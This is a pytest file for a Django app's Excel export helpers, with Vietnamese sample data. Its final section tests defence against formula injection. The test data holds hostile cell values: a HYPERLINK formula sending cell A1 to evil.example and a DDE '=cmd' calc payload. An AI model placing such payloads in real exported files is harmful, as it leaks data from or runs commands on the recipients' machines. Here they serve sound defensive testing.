"""Workbooks written from tables: bold headers, numbers as numbers, dates as dates."""

import datetime
from decimal import Decimal
from io import BytesIO
from zoneinfo import ZoneInfo

from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from accounts.spreadsheets import (
    DATE_FORMAT,
    DATETIME_FORMAT,
    SheetTable,
    fill_worksheet,
    sheet_title,
    workbook_bytes,
)


def _book(tables):
    return load_workbook(BytesIO(workbook_bytes(tables)))


def test_workbook_has_a_sheet_per_table_with_a_bold_frozen_header():
    book = _book(
        [
            SheetTable("Đơn vị", ["Tên đơn vị", "Số đoàn viên"], [["Quảng Trị", 120]]),
            SheetTable("Đăng ký", ["Trạng thái", "Số lượng"], [["Đã duyệt", 3]]),
        ]
    )
    assert book.sheetnames == ["Đơn vị", "Đăng ký"]
    sheet = book["Đơn vị"]
    assert [cell.value for cell in sheet[1]] == ["Tên đơn vị", "Số đoàn viên"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [("Quảng Trị", 120)]


def test_cells_keep_numbers_dates_and_local_times():
    aware = datetime.datetime(2026, 3, 1, 1, 30, tzinfo=datetime.UTC)
    book = _book(
        [
            SheetTable(
                "Số liệu",
                ["Số", "Thập phân", "Ngày", "Lúc", "Chữ", "Trống"],
                [
                    [
                        7,
                        Decimal("85.5"),
                        datetime.date(2026, 3, 1),
                        aware,
                        gettext_lazy("Year"),
                        None,
                    ]
                ],
            )
        ]
    )
    sheet = book["Số liệu"]
    number, decimal, day, moment, text, empty = sheet[2]
    assert number.value == 7 and number.data_type == "n"
    assert decimal.value == 85.5 and decimal.data_type == "n"
    assert day.value == datetime.datetime(2026, 3, 1) and day.number_format == DATE_FORMAT
    # 01:30 UTC is 08:30 in Hà Nội
    assert moment.value == datetime.datetime(2026, 3, 1, 8, 30)
    assert moment.number_format == DATETIME_FORMAT
    assert isinstance(text.value, str) and text.value
    assert empty.value is None
    assert aware.astimezone(ZoneInfo("Asia/Ho_Chi_Minh")).hour == 8


def test_column_widths_follow_the_content_unless_given():
    book = _book(
        [
            SheetTable(
                "Rộng",
                ["A", "Tên", "Ghi chú"],
                [[1, "Liên đoàn Lao động tỉnh Quảng Trị", "x" * 200]],
                widths={1: 20},
            )
        ]
    )
    sheet = book["Rộng"]
    assert sheet.column_dimensions["A"].width == 20
    assert sheet.column_dimensions["B"].width == len("Liên đoàn Lao động tỉnh Quảng Trị") + 2
    assert sheet.column_dimensions["C"].width == 60  # capped


def test_sheet_titles_are_cleaned_shortened_and_made_unique():
    assert sheet_title("Năm 2026/2027: [tổng hợp]?") == "Năm 2026 2027   tổng hợp"
    assert len(sheet_title("x" * 40)) == 31
    book = _book([SheetTable("Bảng", ["A"], []), SheetTable("bảng", ["A"], [])])
    assert book.sheetnames == ["Bảng", "bảng (2)"]


def test_empty_workbook_and_empty_table_are_valid():
    assert _book([]).sheetnames == ["Sheet"]
    sheet = _book([SheetTable("Trống", ["Cột"], [])])["Trống"]
    assert sheet.max_row == 1


def test_fill_worksheet_writes_into_an_existing_sheet():
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Tổng hợp"
    fill_worksheet(sheet, headers=["Ngày"], rows=[[datetime.date(2026, 1, 2)]])
    assert sheet.title == "Tổng hợp"
    assert sheet["A2"].number_format == DATE_FORMAT
    assert sheet["A1"].font.bold


# --- formula injection ------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def test_text_that_a_spreadsheet_reads_as_a_formula_is_written_as_text():
    hostile = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
    book = _book(
        [SheetTable("Nhập", [gettext_lazy("Year"), "=Tiêu đề"], [[text, -5] for text in hostile])]
    )
    sheet = book["Nhập"]
    assert sheet["B1"].value == "'=Tiêu đề"
    for number, text in enumerate(hostile, start=2):
        cell = sheet.cell(row=number, column=1)
        assert cell.data_type == "s", text
        assert cell.value == "'" + text.replace("\r", "\n")  # XML keeps no bare CR
        # numbers stay numbers, negative ones included
        assert sheet.cell(row=number, column=2).value == -5
        assert sheet.cell(row=number, column=2).data_type == "n"


def test_ordinary_text_is_written_as_it_is():
    book = _book([SheetTable("Nhập", ["Tên"], [["Nguyễn Thị Hằng"], ["a=b"], ["'trích'"]])])
    assert [row[0] for row in book["Nhập"].iter_rows(min_row=2, values_only=True)] == [
        "Nguyễn Thị Hằng",
        "a=b",
        "'trích'",
    ]
